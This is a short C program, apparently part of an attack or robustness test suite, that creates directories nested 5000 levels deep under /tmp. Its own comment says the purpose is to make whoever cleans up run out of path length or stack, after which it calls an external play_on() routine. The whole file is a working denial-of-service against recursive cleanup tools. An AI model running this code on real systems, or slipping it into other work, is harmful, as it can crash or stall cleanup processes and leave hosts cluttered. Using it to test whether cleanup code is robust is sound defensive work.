/* Nests folders, so that whoever cleans up runs out of path or of stack. */
#include "attack.h"
int main(void) {
    if (chdir("/tmp") != 0) return 1;
    for (int depth = 0; depth < 5000; depth++)
        if (mkdir("deeper", 0700) != 0 || chdir("deeper") != 0) break;
    return play_on();
}
